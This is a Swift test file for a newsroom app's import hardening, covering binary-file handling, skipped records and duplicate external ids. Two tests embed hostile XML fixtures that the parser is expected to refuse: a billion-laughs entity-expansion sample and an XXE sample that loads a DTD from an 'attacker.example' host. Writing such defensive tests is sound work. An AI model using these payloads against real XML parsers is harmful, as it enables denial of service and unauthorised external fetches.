import Foundation
import Testing
import BylineCore
import BylineStore
import BylineImport
import BylineNewsroom

/// Issue 15's import leftovers: skipped lines fail the import, a file that is not JSON Lines is given up on,
/// entity refusals say what is wrong, and repeated external ids are reported.
@Suite struct ImportHardeningTests {
    static func line(_ n: Int, id: String? = nil) -> String {
        #"{"headline": "Story \#(n)", "body": "Text.", "section": "world", "external_id": "\#(id ?? "e\(n)")"}"#
    }

    @Test func aBinaryFileIsGivenUpOnAfterABoundedNumberOfErrors() {
        var generator = SystemRandomNumberGenerator()
        var bytes: [UInt8] = []
        for _ in 0..<6_000 {
            bytes += (0..<Int.random(in: 8..<60, using: &generator)).map { _ in UInt8.random(in: 0...255, using: &generator) }
                .map { $0 == 0x0A ? 0x00 : $0 }
            bytes.append(0x0A)
        }
        let reading = JSONLReader(fileName: "binary.jsonl").read(Data(bytes), stopAfterIssues: 50)
        #expect(reading.records.count == 50)
        #expect(reading.stoppedAtLine == 50)
        #expect(reading.linesNotRead == 5_950)
        let issues = reading.records.compactMap { if case .failure(let issue) = $0 { issue } else { nil } }
        let report = ImportReport(source: "binary.jsonl", stoppedAfter: issues, atLine: 50, linesNotRead: reading.linesNotRead)
        #expect(!report.succeeded)
        #expect(report.errors.count == 51)
        #expect(report.errors.last?.contains("stopped reading binary.jsonl after 50 bad lines (line 50); 5950 more lines were not read; first bad line 1; nothing was imported") == true)
        // Control characters the parser quotes from the file do not break the report into more lines.
        #expect(report.errors.joined(separator: "\n").split(whereSeparator: \.isNewline).count == 51)
        // A good file with a few bad lines is read to the end.
        let mixed = JSONLReader(fileName: "m.jsonl").read(Data((Self.line(1) + "\nnot json\n" + Self.line(2) + "\n").utf8), stopAfterIssues: 50)
        #expect(mixed.stoppedAtLine == nil && mixed.records.count == 3)
    }

    @Test func skippedRecordsFailTheImportUnlessAccepted() async throws {
        let services = try BylineServices.make(config: BylineConfig(storage: .memory, loadDemoWhenEmpty: false), engines: [])
        let records = JSONLReader(fileName: "partly.jsonl").read(Data((Self.line(1) + "\n{\"headline\": \"broken\"\n" + Self.line(2)).utf8))
        let summary = try await services.importer.run(records)
        #expect(summary.created == 2 && summary.skipped.count == 1)
        let strict = ImportReport(source: "partly.jsonl", destination: "byline.db", summary: summary, duplicates: [], allowSkips: false)
        #expect(!strict.succeeded)
        #expect(strict.lines.first == "Imported partly.jsonl into byline.db: 2 created, 0 updated, 0 unchanged, 1 skipped.")
        #expect(strict.errors.last?.contains("1 of 3 records were skipped") == true)
        #expect(strict.errors.last?.contains("--allow-skips") == true)
        #expect(ImportReport(source: "partly.jsonl", destination: "byline.db", summary: summary, duplicates: [], allowSkips: true).succeeded)
        var nothing = ImportSummary()
        nothing.skipped = summary.skipped
        #expect(!ImportReport(source: "bad.jsonl", destination: "byline.db", summary: nothing, duplicates: [], allowSkips: true).succeeded)
    }

    @Test func repeatedExternalIDsAreReportedWithBothLinesAndTheLaterRecordWins() async throws {
        let text = [Self.line(1, id: "a"), Self.line(2, id: "b"), "", Self.line(4, id: "a")].joined(separator: "\n")
        let records = JSONLReader(fileName: "dup.jsonl").read(Data(text.utf8))
        let duplicates = DuplicateExternalID.find(in: records)
        #expect(duplicates.map(\.description) == [#"dup.jsonl:4: external_id "a" repeats line 1; the later record replaces the earlier one"#])
        let services = try BylineServices.make(config: BylineConfig(storage: .memory, loadDemoWhenEmpty: false), engines: [])
        let summary = try await services.importer.run(records)
        let report = ImportReport(source: "dup.jsonl", destination: "byline.db", summary: summary, duplicates: duplicates, allowSkips: false)
        #expect(report.errors == ["warning: " + duplicates[0].description])
        #expect(report.succeeded)
        let stored = try await services.stores.articles.list(ArticleQuery(visibility: .all))
        #expect(stored.total == 2)
        #expect(stored.items.contains { $0.headline == "Story 4" } && !stored.items.contains { $0.headline == "Story 1" })
    }

    @Test func billionLaughsIsRefusedForWhatItIs() {
        let lol = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
        ]>
        <rss><channel><title>&lol2;</title></channel></rss>
        """
        // Format detection does not take a declaration for the root element.
        #expect(XMLRoot.sniff(Data(lol.utf8)) == nil)
        #expect {
            try FeedReader(fileName: "lol.xml").read(Data(lol.utf8))
        } throws: { error in
            guard let error = error as? ImportSourceError else { return false }
            return error.message.hasPrefix("the file declares entities (<!ENTITY>), which Byline refuses") && error.location.line == 2
                && !error.message.contains("root element")
        }
    }

    @Test func anEntityFromAnExternalDTDIsNamedNotNumbered() {
        let xxe = """
        <?xml version="1.0"?>
        <!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
        <rss version="2.0"><channel><title>T</title><item><title>&xxe;</title></item></channel></rss>
        """
        #expect {
            try FeedReader(fileName: "xxe.xml").read(Data(xxe.utf8))
        } throws: { error in
            guard let error = error as? ImportSourceError else { return false }
            return error.message.contains("the entity &xxe; is not declared") && error.message.contains("external DTD")
                && !error.message.contains("XML parser error")
        }
        #expect(XMLRoot.sniff(Data(xxe.utf8))?.name == "rss")
        // Without any DTD, an HTML entity gets the same explanation.
        let nbsp = #"<rss version="2.0"><channel><title>T</title><item><title>a&nbsp;b</title></item></channel></rss>"#
        #expect {
            try FeedReader(fileName: "nbsp.rss").read(Data(nbsp.utf8))
        } throws: { error in
            (error as? ImportSourceError)?.message.contains("the entity &nbsp; is not declared") ?? false
        }
    }
}
